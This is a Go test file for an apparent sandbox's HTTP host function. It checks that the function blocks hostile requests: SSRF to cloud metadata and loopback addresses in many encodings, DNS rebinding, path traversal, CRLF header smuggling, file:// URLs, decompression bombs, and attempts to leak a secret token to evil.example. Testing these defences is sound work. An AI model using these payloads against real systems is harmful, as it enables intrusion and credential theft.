package hostile_test

import (
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/netip"
	"net/url"
	"strings"

	"github.com/wasakari/wasakari/abi"
	"github.com/wasakari/wasakari/hostfuncs"
	"github.com/wasakari/wasakari/recovery"
)

// request makes the document of an http.request.
func request(method, target, more string) string {
	return fmt.Sprintf(`{"method":%s,"url":%s%s}`, quoted(method), quoted(target), more)
}

// quoted writes a string as JSON does.
func quoted(s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		panic(err)
	}
	return string(b)
}

// rules makes the task ask for these requests only.
func rules(list ...string) func(*hostfuncs.TaskCall) {
	return func(c *hostfuncs.TaskCall) { c.Task.HTTP = list }
}

const okay = `{"status":200,"url":"http://api.example.com/v1/x","headers":{"Content-Length":"2","Content-Type":"text/plain; charset=utf-8"},"body":"ok"}`

// requests go where no rule leads, or say what is the host's to say.
func requests() []attack {
	const op = abi.OpHTTPRequest
	to := func(name, does, target, want string) attack {
		return one(name, does, op, request("GET", target, ""), want)
	}
	outside := func(name, does, target string) attack {
		return to(name, does, target, "not_granted: http.request: GET "+target+": not among the requests of task evil in its manifest")
	}
	header := func(name, does, key, value, want string) attack {
		return one(name, does, op, request("GET", "http://api.example.com/v1/x", fmt.Sprintf(`,"headers":{%s:%s}`, quoted(key), quoted(value))), want)
	}
	serving := func(h http.HandlerFunc) func(*world) { return func(w *world) { w.serve = h } }
	redirecting := func(location string, status int) func(*world) {
		return serving(func(rw http.ResponseWriter, _ *http.Request) {
			rw.Header().Set("Location", location)
			rw.WriteHeader(status)
		})
	}
	follow := request("GET", "http://api.example.com/v1/x", `,"max_redirects":5`)
	redirect := func(name, does, location, want string) attack {
		return attack{name: name, does: does, world: redirecting(location, 302), steps: []step{{op, follow, want}}, sent: []string{"GET api.example.com/v1/x"}}
	}
	return []attack{
		{name: "as it may", does: "asks for what it may", steps: []step{{op, request("GET", "http://api.example.com/v1/x", ""), okay}}, sent: []string{"GET api.example.com/v1/x"}},
		outside("another host", "asks another host", "http://evil.example/v1/x"),
		outside("another port", "asks another port of the host", "http://api.example.com:8080/v1/x"),
		outside("another scheme", "asks in another scheme", "https://api.example.com/v1/x"),
		outside("name below", "asks a name below the host's", "http://x.api.example.com/v1/x"),
		outside("name above", "asks the name above the host's", "http://example.com/v1/x"),
		outside("name that goes on", "asks a name that begins with the host's", "http://api.example.com.evil.example/v1/x"),
		outside("path above", "asks for a path above the rule's", "http://api.example.com/"),
		outside("path beside", "asks for a path that begins like the rule's", "http://api.example.com/v10"),
		outside("path in another case", "asks for a path in another case", "http://api.example.com/V1/x"),
		to("dots", "climbs up by dots", "http://api.example.com/v1/../admin", "invalid: http.request: url: path: dot segments are not allowed"),
		to("escaped dots", "climbs up by escaped dots", "http://api.example.com/v1/%2e%2e/admin", "invalid: http.request: url: path: dot segments are not allowed"),
		to("escaped slash", "climbs up by an escaped slash", "http://api.example.com/v1/..%2fadmin", "invalid: http.request: url: path: the escape %2F is ambiguous"),
		to("escaped escape", "climbs up by an escape of an escape", "http://api.example.com/v1/%252e%252e/admin", "invalid: http.request: url: path: an escape of an escape is ambiguous"),
		to("dots with a parameter", "climbs up by dots that some servers see only without their parameter", "http://api.example.com/v1/..;/admin", "invalid: http.request: url: path: dot segments are not allowed"),
		to("empty segment", "asks for a path that some servers shorten", "http://api.example.com//v1/x", "invalid: http.request: url: path: empty segments are not allowed"),
		to("backslash", "writes a backslash for a slash", `http://api.example.com\@evil.example/v1/x`, "invalid: http.request: url: a backslash is not allowed"),
		to("user", "hides the host behind a user", "http://api.example.com@evil.example/v1/x", "invalid: http.request: url: a user or password in it is not allowed; use basic"),
		to("user and password", "hides the host behind a user and a password", "http://api.example.com:80@evil.example/v1/x", "invalid: http.request: url: a user or password in it is not allowed; use basic"),
		to("fragment", "hides the host behind a fragment", "http://evil.example#api.example.com/v1/x", "invalid: http.request: url: a fragment is not sent; leave it out"),
		outside("query", "hides the host behind a query", "http://evil.example/?api.example.com/v1/x"),
		to("dot at the end", "writes the host with a dot at its end", "http://api.example.com./v1/x", `invalid: http.request: url: host "api.example.com.": want parts of 1 to 63 letters, digits, - or _, with a dot between two`),
		to("line end", "splits the request after the URL", "http://api.example.com/v1/x\r\nHost: evil", "invalid: http.request: url: spaces and control characters are not allowed; escape them"),
		to("zero", "ends the URL early for some", "http://api.example.com/v1/x\x00.evil", "invalid: http.request: url: spaces and control characters are not allowed; escape them"),
		to("other letters", "writes the host in letters that look like others", "http://аpi.example.com/v1/x", "invalid: http.request: url: only ASCII is allowed; write the host in punycode (xn--…) and escape the rest"),
		to("file", "asks for a file", "file:///etc/passwd", "invalid: http.request: url: want one that begins with https:// or http://"),
		to("gopher", "speaks another protocol", "gopher://api.example.com/_x", "invalid: http.request: url: want one that begins with https:// or http://"),
		to("no scheme", "leaves the scheme out", "//api.example.com/v1/x", "invalid: http.request: url: want one that begins with https:// or http://"),
		to("opaque", "leaves the slashes out", "http:api.example.com/v1/x", "invalid: http.request: url: want // after the scheme"),
		to("endless", "asks for an endless URL", "http://api.example.com/v1/"+strings.Repeat("x", 9000), "invalid: http.request: url: it has 9026 bytes; at most 8192 are taken"),
		one("method in lower case", "writes a method in another case", op, request("get", "http://api.example.com/v1/x", ""), "invalid: http.request: method: want one of GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS; did you mean GET?"),
		one("CONNECT", "asks for a tunnel", op, request("CONNECT", "http://api.example.com/v1/x", ""), "invalid: http.request: method: want one of GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS"),
		one("TRACE", "lets the server tell the header, with its secrets", op, request("TRACE", "http://api.example.com/v1/x", ""), "invalid: http.request: method: want one of GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS"),
		one("method with a line end", "splits the request after the method", op, request("GET / HTTP/1.1\r\nX:", "http://api.example.com/v1/x", ""), "invalid: http.request: method: want one of GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS"),
		{name: "method of another rule", does: "deletes where it may only read", as: rules("GET http://api.example.com/v1/*"), steps: []step{{op, request("DELETE", "http://api.example.com/v1/x", ""), "not_granted: http.request: DELETE http://api.example.com/v1/x: not among the requests of task evil in its manifest"}}},
		{name: "asked and not granted", does: "asks for what its manifest names and nobody granted", as: granted("http.request"), steps: []step{{op, request("GET", "http://api.example.com/v1/x", ""), "not_granted: http.request: GET http://api.example.com/v1/x: http:*:http://api.example.com/v1/* is not granted to library acme; see [grants]"}}},
		{name: "rule that is none", does: "has a rule in its manifest that is none", as: rules("* *", "* http://*/*", "GET http://*.com/*"), steps: []step{{op, request("GET", "http://api.example.com/v1/x", ""), "not_granted: http.request: GET http://api.example.com/v1/x: not among the requests of task evil in its manifest"}}},
		header("Host", "says whom the request is for", "Host", "evil.example", "invalid: http.request: headers: Host is the host's to set; leave it out"),
		header("host in another case", "says whom the request is for, in another case", "hOST", "evil.example", "invalid: http.request: headers: hOST is the host's to set; leave it out"),
		header("length", "says how long the request is", "Content-Length", "0", "invalid: http.request: headers: Content-Length is the host's to set; leave it out"),
		header("length with an underscore", "says how long the request is, for gateways that read it so", "Content_Length", "0", "invalid: http.request: headers: Content_Length is the host's to set; leave it out"),
		header("transfer encoding", "says that the request comes in chunks", "Transfer-Encoding", "chunked", "invalid: http.request: headers: Transfer-Encoding is the host's to set; leave it out"),
		header("connection", "has headers removed on the way", "Connection", "Authorization", "invalid: http.request: headers: Connection is the host's to set; leave it out"),
		header("upgrade", "speaks another protocol afterwards", "Upgrade", "websocket", "invalid: http.request: headers: Upgrade is the host's to set; leave it out"),
		header("expectation", "lets the server keep the request waiting", "Expect", "100-continue", "invalid: http.request: headers: Expect is the host's to set; leave it out"),
		header("proxy", "speaks to a proxy on the way", "Proxy-Authorization", "Basic eA==", "invalid: http.request: headers: Proxy-Authorization is the host's to set; leave it out"),
		header("name with a line end", "splits the header in a name", "X\r\nHost", "evil", `invalid: http.request: headers: "X\r\nHost" is no name`),
		header("name with a blank", "writes a blank behind a name, which some servers leave out", "Host ", "evil", `invalid: http.request: headers: "Host " is no name`),
		header("empty name", "has a header without a name", "", "x", `invalid: http.request: headers: "" is no name`),
		header("value with a line end", "splits the header in a value", "X-A", "a\r\nHost: evil", "invalid: http.request: headers: the value of X-A holds more than printable ASCII, or blanks at an end"),
		header("value with a zero", "ends a value early for some", "X-A", "a\x00b", "invalid: http.request: headers: the value of X-A holds more than printable ASCII, or blanks at an end"),
		header("value of 40 KB", "sends an endless header", "X-A", strings.Repeat("a", 40_000), "too_large: http.request: headers: they have more than 32768 bytes"),
		one("header twice", "gives a header in two cases", op, request("GET", "http://api.example.com/v1/x", `,"headers":{"X-A":"1","x-a":"2"}`), "invalid: http.request: headers: X-A is given twice"),
		one("two bodies", "gives two bodies", op, request("POST", "http://api.example.com/v1/x", `,"body":"a","body_base64":"YQ=="`), "invalid: http.request: body: give one of body, body_base64 and body_json; the request was not sent"),
		one("body of a GET", "sends a body where there is none, which some servers read as the next request", op, request("GET", "http://api.example.com/v1/x", `,"body":"GET /admin HTTP/1.1"`), "invalid: http.request: body: GET has none"),
		one("redirects without end", "follows redirects without end", op, request("GET", "http://api.example.com/v1/x", `,"max_redirects":6`), "invalid: http.request: max_redirects: at most 5 are followed"),
		redirect("redirect to metadata", "is led to the cloud's metadata", "http://169.254.169.254/latest/meta-data", "not_granted: http.request: GET http://169.254.169.254/latest/meta-data: none of the requests that are granted"),
		redirect("redirect to loopback", "is led to the host itself", "http://127.0.0.1:8774/", "not_granted: http.request: GET http://127.0.0.1:8774/: none of the requests that are granted"),
		redirect("redirect out of the path", "is led out of the rule's path", "/admin", "not_granted: http.request: GET http://api.example.com/admin: none of the requests that are granted"),
		redirect("redirect by dots", "is led out of the rule's path by dots", "../admin", "not_granted: http.request: GET http://api.example.com/admin: none of the requests that are granted"),
		redirect("redirect to a file", "is led to a file", "file:///etc/passwd", "forbidden: http.request: GET http://api.example.com/v1/x redirects to where no request goes: url: want one that begins with https:// or http://"),
		redirect("redirect with a user", "is led to a host behind a user", "http://api.example.com@evil.example/v1/x", "forbidden: http.request: GET http://api.example.com/v1/x redirects to where no request goes: url: a user or password in it is not allowed; use basic"),
		redirect("redirect to another host", "is led to another host", "http://evil.example/v1/x", "not_granted: http.request: GET http://evil.example/v1/x: none of the requests that are granted"),
		{name: "loop of redirects", does: "is led in a circle, which ends", world: redirecting("/v1/x", 302), steps: []step{{op, follow, `{"status":302,"url":"http://api.example.com/v1/x","headers":{"Content-Length":"0","Location":"/v1/x"}}`}}, sent: []string{
			"GET api.example.com/v1/x", "GET api.example.com/v1/x", "GET api.example.com/v1/x", "GET api.example.com/v1/x", "GET api.example.com/v1/x", "GET api.example.com/v1/x",
		}},
		{name: "archive that is a bomb", does: "gets an archive of 8 KB that is 8 MiB", world: serving(func(rw http.ResponseWriter, _ *http.Request) {
			rw.Header().Set("Content-Encoding", "gzip")
			z := gzip.NewWriter(rw)
			for range 128 {
				_, _ = z.Write(make([]byte, 64<<10))
			}
			_ = z.Close()
		}), steps: []step{{op, request("GET", "http://api.example.com/v1/x", ""), "too_large: http.request: the body of the answer has more than 524288 bytes; ask for less, or raise [http] answer_kib"}}, sent: []string{"GET api.example.com/v1/x"}},
		{name: "endless answer", does: "gets an answer without end", world: serving(func(rw http.ResponseWriter, r *http.Request) {
			for r.Context().Err() == nil {
				if _, err := rw.Write(make([]byte, 64<<10)); err != nil {
					return
				}
			}
		}), steps: []step{{op, request("GET", "http://api.example.com/v1/x", ""), "too_large: http.request: the body of the answer has more than 524288 bytes; ask for less, or raise [http] answer_kib"}}, sent: []string{"GET api.example.com/v1/x"}},
		{name: "endless header", does: "gets a header without end", world: serving(func(rw http.ResponseWriter, _ *http.Request) {
			rw.Header().Set("X-A", strings.Repeat("a", 100<<10))
		}), steps: []step{{op, request("GET", "http://api.example.com/v1/x", ""), "too_large: http.request: the header of api.example.com's answer has more than 65536 bytes"}}, sent: []string{"GET api.example.com/v1/x"}},
		{name: "answer without end in time", does: "waits for an answer that never comes", world: serving(func(_ http.ResponseWriter, r *http.Request) { <-r.Context().Done() }), steps: []step{
			{op, request("POST", "http://api.example.com/v1/x", `,"timeout_seconds":1`), "timeout: http.request: no answer within 1s; the request may have arrived"},
		}, sent: []string{"POST api.example.com/v1/x"}},
	}
}

// addresses are inside, in every spelling: names that lead there, addresses
// that carry others, and answers that change.
func addresses() []attack {
	const op = abi.OpHTTPRequest
	var list []attack
	for _, a := range []struct{ address, does, what string }{
		{"127.0.0.1", "the host itself", "a loopback address"},
		{"127.255.255.254", "the host itself by another address", "a loopback address"},
		{"0.0.0.0", "every address of the host", "an address of this network"},
		{"0.1.2.3", "this network", "an address of this network"},
		{"10.1.2.3", "a private network", "a private address"},
		{"172.16.0.1", "a private network", "a private address"},
		{"172.31.255.255", "a private network", "a private address"},
		{"192.168.1.1", "a private network", "a private address"},
		{"100.64.0.1", "a carrier's network", "a shared address of carriers"},
		{"169.254.169.254", "the cloud's metadata", "an address of the cloud's metadata"},
		{"100.100.100.200", "another cloud's metadata", "an address of the cloud's metadata"},
		{"169.254.1.1", "the link", "a link-local address"},
		{"192.0.0.1", "a reserved network", "a reserved address"},
		{"192.0.2.1", "documentation", "an address of documentation"},
		{"198.18.0.1", "benchmarks", "an address of benchmarks"},
		{"224.0.0.1", "everybody at once", "a multicast address"},
		{"255.255.255.255", "everybody on the link", "a reserved address"},
		{"240.0.0.1", "a reserved network", "a reserved address"},
		{"::", "every address of the host", "the unspecified address"},
		{"::1", "the host itself", "a loopback address"},
		{"::7f00:1", "the host itself, in an old spelling", "an IPv4-compatible address"},
		{"::ffff:0:7f00:1", "the host itself, translated", "an IPv4-translated address"},
		{"64:ff9b::7f00:1", "the host itself, through NAT64", "an address of NAT64"},
		{"64:ff9b:1::a9fe:a9fe", "the metadata, through a local NAT64", "an address of NAT64"},
		{"2002:7f00:1::", "the host itself, through 6to4", "an address of 6to4"},
		{"2001:0:7f00:1::", "the host itself, through Teredo", "an address of Teredo"},
		{"fd00:ec2::254", "the metadata", "an address of the cloud's metadata"},
		{"fd12:3456::1", "a private network", "a private address"},
		{"fe80::1", "the link", "a link-local address"},
		{"fec0::1", "a site", "a site-local address"},
		{"ff02::1", "everybody on the link", "a multicast address"},
		{"2001:db8::1", "documentation", "an address of documentation"},
		{"4000::1", "what is not the Internet", "a reserved address"},
	} {
		hint := fmt.Sprintf("; to allow it, the operator grants net:%s", netip.PrefixFrom(netip.MustParseAddr(a.address), netip.MustParseAddr(a.address).BitLen()))
		switch a.what {
		case "an address of this network", "a multicast address", "the unspecified address", "an IPv4-compatible address", "an IPv4-translated address":
			hint = ""
		case "a reserved address":
			if strings.HasPrefix(a.address, "2") {
				hint = ""
			}
		}
		list = append(list, attack{
			name: "name that leads to " + a.address, does: "asks a name that leads to " + a.does, as: rules("GET http://evil.example/*"),
			world: func(w *world) { w.lookups["evil.example"] = [][]string{{a.address}} },
			steps: []step{{op, request("GET", "http://evil.example/x", ""), fmt.Sprintf("forbidden: http.request: evil.example: %s is %s%s", a.address, a.what, hint)}},
		})
	}
	for _, a := range []struct{ host, want string }{
		{"127.1", `invalid: http.request: url: host "127.1": a name does not end with a number; an IPv4 address has four decimal numbers without leading zeros`},
		{"2130706433", `invalid: http.request: url: host "2130706433": a name does not end with a number; an IPv4 address has four decimal numbers without leading zeros`},
		{"0x7f000001", `invalid: http.request: url: host "0x7f000001": a name does not end with a number; an IPv4 address has four decimal numbers without leading zeros`},
		{"0177.0.0.1", `invalid: http.request: url: host "0177.0.0.1": a name does not end with a number; an IPv4 address has four decimal numbers without leading zeros`},
		{"127.0.0.1.", `invalid: http.request: url: host "127.0.0.1.": want parts of 1 to 63 letters, digits, - or _, with a dot between two`},
		{"[::ffff:127.0.0.1]", "invalid: http.request: url: host: write the IPv4 address 127.0.0.1 itself"},
		{"[::ffff:7f00:1]", "invalid: http.request: url: host: write the IPv4 address 127.0.0.1 itself"},
		{"[fe80::1%25eth0]", `invalid: http.request: url: host: "fe80::1%eth0" is no IPv6 address`},
		{"127.0.0.1:080", `invalid: http.request: url: port "080": want a number from 1 to 65535`},
		{"localhost", "unavailable: http.request: looking up localhost: no such host"},
	} {
		list = append(list, attack{
			name: "host " + a.host, does: "spells the host itself as " + a.host, as: rules("* http://localhost/*"),
			steps: []step{{op, request("GET", "http://"+a.host+"/", ""), a.want}},
		})
	}
	return append(list,
		attack{
			name: "address itself", does: "asks the host itself, which a rule names and no network is granted for", as: rules("GET http://127.0.0.1/*"),
			steps: []step{{op, request("GET", "http://127.0.0.1/x", ""), "forbidden: http.request: 127.0.0.1: 127.0.0.1 is a loopback address; to allow it, the operator grants net:127.0.0.1/32"}},
		},
		attack{
			name: "name that leads to several", does: "asks a name of which one address is inside: the others are asked", as: rules("GET http://evil.example/*"),
			world: func(w *world) { w.lookups["evil.example"] = [][]string{{"10.0.0.1", public, "127.0.0.1"}} },
			steps: []step{{op, request("GET", "http://evil.example/x", ""), strings.ReplaceAll(strings.ReplaceAll(okay, "api.example.com", "evil.example"), "/v1/x", "/x")}},
			sent:  []string{"GET evil.example/x"},
		},
		attack{
			name: "name that changes", does: "asks a name that leads elsewhere when it is looked up again", as: rules("GET http://evil.example/*"),
			world: func(w *world) { w.lookups["evil.example"] = [][]string{{public}, {"127.0.0.1"}} },
			steps: []step{
				{op, request("GET", "http://evil.example/x", ""), strings.ReplaceAll(strings.ReplaceAll(okay, "api.example.com", "evil.example"), "/v1/x", "/x")},
				{op, request("GET", "http://evil.example/x", ""), "forbidden: http.request: evil.example: 127.0.0.1 is a loopback address; to allow it, the operator grants net:127.0.0.1/32"},
			},
			sent: []string{"GET evil.example/x"},
		},
		attack{
			name: "name that changes on the way", does: "is led to its own name, which leads inside by then", as: rules("GET http://evil.example/*"),
			world: func(w *world) {
				w.lookups["evil.example"] = [][]string{{public}, {"169.254.169.254"}}
				w.serve = func(rw http.ResponseWriter, _ *http.Request) {
					rw.Header().Set("Location", "/y")
					rw.WriteHeader(http.StatusFound)
				}
			},
			steps: []step{{op, request("GET", "http://evil.example/x", `,"max_redirects":1`), "forbidden: http.request: evil.example: 169.254.169.254 is an address of the cloud's metadata; to allow it, the operator grants net:169.254.169.254/32"}},
			sent:  []string{"GET evil.example/x"},
		},
		attack{
			name: "network that is granted", does: "asks an address beside the network that is granted", as: as(rules("GET http://evil.example/*"), func(c *hostfuncs.TaskCall) { c.Networks = []netip.Prefix{netip.MustParsePrefix("10.1.0.0/16")} }),
			world: func(w *world) { w.lookups["evil.example"] = [][]string{{"10.2.0.1"}} },
			steps: []step{{op, request("GET", "http://evil.example/x", ""), "forbidden: http.request: evil.example: 10.2.0.1 is a private address; to allow it, the operator grants net:10.2.0.1/32"}},
		},
		attack{
			name: "network that carries another", does: "asks an address of NAT64, which is granted, that carries one that is not", as: as(rules("GET http://evil.example/*"), func(c *hostfuncs.TaskCall) { c.Networks = []netip.Prefix{netip.MustParsePrefix("64:ff9b::/96")} }),
			world: func(w *world) { w.lookups["evil.example"] = [][]string{{"64:ff9b::a9fe:a9fe"}} },
			steps: []step{{op, request("GET", "http://evil.example/x", ""), "forbidden: http.request: evil.example: 64:ff9b::a9fe:a9fe is an address of the cloud's metadata; to allow it, the operator grants net:169.254.169.254/32"}},
		},
		attack{
			name: "network of everything", does: "asks what no grant opens", as: as(rules("GET http://evil.example/*"), func(c *hostfuncs.TaskCall) { c.Networks = []netip.Prefix{netip.MustParsePrefix("0.0.0.0/0")} }),
			world: func(w *world) { w.lookups["evil.example"] = [][]string{{"0.0.0.0"}} },
			steps: []step{{op, request("GET", "http://evil.example/x", ""), "forbidden: http.request: evil.example: 0.0.0.0 is an address of this network"}},
		},
	)
}

// secrets are wanted in plain.
func secrets() []attack {
	const op = abi.OpHTTPRequest
	bound := func(origin string, places ...string) func(*hostfuncs.TaskCall) {
		return func(c *hostfuncs.TaskCall) {
			c.Secrets = map[string]recovery.Secret{"acme.token": {Name: "acme.token", Value: plain, Origin: origin, Places: places}}
			c.Options = map[string]map[string]any{"acme": {"token": c.Secrets["acme.token"], "queue": "ops"}}
		}
	}
	const (
		here    = "http://api.example.com"
		target  = here + "/v1/x"
		notSent = "; the request was not sent"
	)
	body := request("POST", target, `,"body_json":{"token":{"$secret":"acme.token"}}`)
	in := func(name, does string, as func(*hostfuncs.TaskCall), req, want string) attack {
		return attack{name: name, does: does, as: as, steps: []step{{op, req, want}}}
	}
	// echo tells what the request held, in several encodings.
	echo := func(w *world) {
		w.serve = func(rw http.ResponseWriter, r *http.Request) {
			b := make([]byte, 1<<10)
			n, _ := r.Body.Read(b)
			text := string(b[:n]) + r.Header.Get("X-Token")
			rw.Header().Set("X-Echo", url.QueryEscape(text))
			_, _ = rw.Write([]byte(text + "\n" + base64.StdEncoding.EncodeToString([]byte("x"+text)) + "\n" + url.PathEscape(text) + "\n" + fmt.Sprintf("%x", text)))
		}
	}
	return []attack{
		{name: "in task.input", does: "looks into its options", as: bound(here, "body"), steps: []step{{
			abi.OpTaskInput, `{}`,
			`{"key":"evil","flow":"host-auto","phase":"main","run_id":"run-7","notification_uuid":"note-1","attempt":1,"round":1,"idempotency_key":"idem","inputs":{"host_name":"compute-1"},"options":{"acme":{"queue":"ops","token":{"$secret":"acme.token"}}}}`,
		}}},
		{name: "in an option that was not marked", does: "looks into its options, among which the value stands in plain", as: as(bound(here, "body"), func(c *hostfuncs.TaskCall) { c.Options["acme"]["token"] = plain }), steps: []step{{
			abi.OpTaskInput, `{}`,
			`{"key":"evil","flow":"host-auto","phase":"main","run_id":"run-7","notification_uuid":"note-1","attempt":1,"round":1,"idempotency_key":"idem","inputs":{"host_name":"compute-1"},"options":{"acme":{"queue":"ops","token":{"$secret":"acme.token"}}}}`,
		}}},
		in("unbound", "sends a secret that is bound to nothing", bound(""), body, "forbidden: http.request: secret acme.token: the operator did not bind it to an origin and a place; see [secrets]"+notSent),
		in("of another library", "sends a secret that its manifest does not have", bound(here, "body"), request("POST", target, `,"body_json":{"$secret":"DEFAULT.os_privileged_user_password"}`), `forbidden: http.request: secret "DEFAULT.os_privileged_user_password": the task has no secret option of that name`+notSent),
		in("name in another case", "names its secret in another case", bound(here, "body"), request("POST", target, `,"body_json":{"$secret":"ACME.TOKEN"}`), `forbidden: http.request: secret "ACME.TOKEN": the task has no secret option of that name`+notSent),
		in("to another origin", "sends a secret to another origin", bound("https://api.example.com", "body"), body, "forbidden: http.request: secret acme.token: it is bound to https://api.example.com and not sent to http://api.example.com"+notSent),
		in("to another port", "sends a secret to another port", bound("http://api.example.com:8080", "body"), body, "forbidden: http.request: secret acme.token: it is bound to http://api.example.com:8080 and not sent to http://api.example.com"+notSent),
		in("in another place", "sends a secret in another place", bound(here, "basic"), body, "forbidden: http.request: secret acme.token: it is bound to basic and not put into body"+notSent),
		in("in another header", "sends a secret in another header", bound(here, "header:Authorization"), request("GET", target, `,"headers":{"X-Token":{"$secret":"acme.token"}}`), "forbidden: http.request: secret acme.token: it is bound to header:Authorization and not put into header:X-Token"),
		in("as the user", "sends a secret as the user of basic", bound(here, "body"), request("GET", target, `,"basic":{"user":{"$secret":"acme.token"},"password":"x"}`), "forbidden: http.request: secret acme.token: it is bound to body and not put into basic"),
		in("with more beside it", "puts a handle beside other keys, so that it is sent and something else is not seen", bound(here, "body"), request("POST", target, `,"body_json":{"$secret":"acme.token","x":1}`), "invalid: http.request: body_json: a handle has the key $secret alone, with a string"+notSent),
		{name: "as a header's name", does: "puts a handle where a header's name is, where it stays a text", as: bound(here, "body"), steps: []step{{op, request("GET", target, `,"headers":{"$secret":"acme.token"}`), okay}}, sent: []string{"GET api.example.com/v1/x"}},
		{name: "in the URL", does: "puts a handle into the URL, where it stays a text", as: bound(here, "body"), steps: []step{{op, request("GET", target+"?t=$secret:acme.token", ""), strings.Replace(okay, "/v1/x", "/v1/x?t=$secret:acme.token", 1)}}, sent: []string{"GET api.example.com/v1/x?t=$secret:acme.token"}},
		in("so often that it grows", "puts a secret into a body ten thousand times", as(bound(here, "body"), func(c *hostfuncs.TaskCall) {
			c.Secrets["acme.token"] = recovery.Secret{Name: "acme.token", Value: strings.Repeat("hunter2", 100), Origin: here, Places: []string{"body"}}
		}), request("POST", target, `,"body_json":[`+strings.TrimSuffix(strings.Repeat(`{"$secret":"acme.token"},`, 8000), ",")+`]`), "too_large: http.request: body: it has more than 1048576 bytes"+notSent),
		{name: "echo of a body", does: "lets an honest server tell the body, in several encodings", as: bound(here, "body"), world: echo, steps: []step{{op, body, "*"}}, sent: []string{"POST api.example.com/v1/x"}},
		{name: "echo of a header", does: "lets an honest server tell a header", as: as(bound(here, "header:X-Token"), func(c *hostfuncs.TaskCall) {
			c.Secrets["acme.token"] = recovery.Secret{Name: "acme.token", Value: "hunter2-of-ascii", Origin: here, Places: []string{"header:X-Token"}}
		}), world: echo, steps: []step{{op, request("POST", target, `,"headers":{"X-Token":{"$secret":"acme.token"}}`), "*"}}, sent: []string{"POST api.example.com/v1/x"}},
		{name: "echo in an error", does: "is led to a URL that holds the secret, which no rule allows", as: bound(here, "body"), world: func(w *world) {
			w.serve = func(rw http.ResponseWriter, _ *http.Request) {
				rw.Header().Set("Location", "http://evil.example/"+url.PathEscape(plain))
				rw.WriteHeader(http.StatusSeeOther)
			}
		}, steps: []step{{op, request("POST", target, `,"body_json":{"$secret":"acme.token"},"max_redirects":1`), "forbidden: http.request: POST http://api.example.com/v1/x redirects to where no request goes: url: path: the escape %2F is ambiguous; the request may have arrived"}}, sent: []string{"POST api.example.com/v1/x"}},
		{name: "redirect to another origin", does: "is led to another origin, which must not get the header", as: as(bound(here, "header:X-Token"), rules("* http://api.example.com/v1/*", "* http://evil.example/*"), func(c *hostfuncs.TaskCall) {
			c.Secrets["acme.token"] = recovery.Secret{Name: "acme.token", Value: "hunter2-of-ascii", Origin: here, Places: []string{"header:X-Token"}}
		}), world: func(w *world) {
			w.lookups["evil.example"] = [][]string{{public}}
			w.serve = func(rw http.ResponseWriter, r *http.Request) {
				if r.Host == "evil.example" {
					w.note("evil got " + r.Header.Get("X-Token"))
					return
				}
				rw.Header().Set("Location", "http://evil.example/x")
				rw.WriteHeader(http.StatusTemporaryRedirect)
			}
		}, steps: []step{{op, request("GET", target, `,"headers":{"X-Token":{"$secret":"acme.token"}},"max_redirects":1`), `{"status":200,"url":"http://evil.example/x","headers":{"Content-Length":"0"}}`}}, sent: []string{"GET api.example.com/v1/x", "GET evil.example/x", "evil got "}},
		{name: "in another op", does: "writes a handle into a store, where it stays a handle", as: bound(here, "body"), steps: []step{
			{abi.OpKVPut, `{"name":"scratch/a","value":{"$secret":"acme.token"}}`, `{"version":1}`},
			{abi.OpKVGet, `{"name":"scratch/a"}`, `{"value":{"$secret":"acme.token"},"version":1}`},
		}},
	}
}
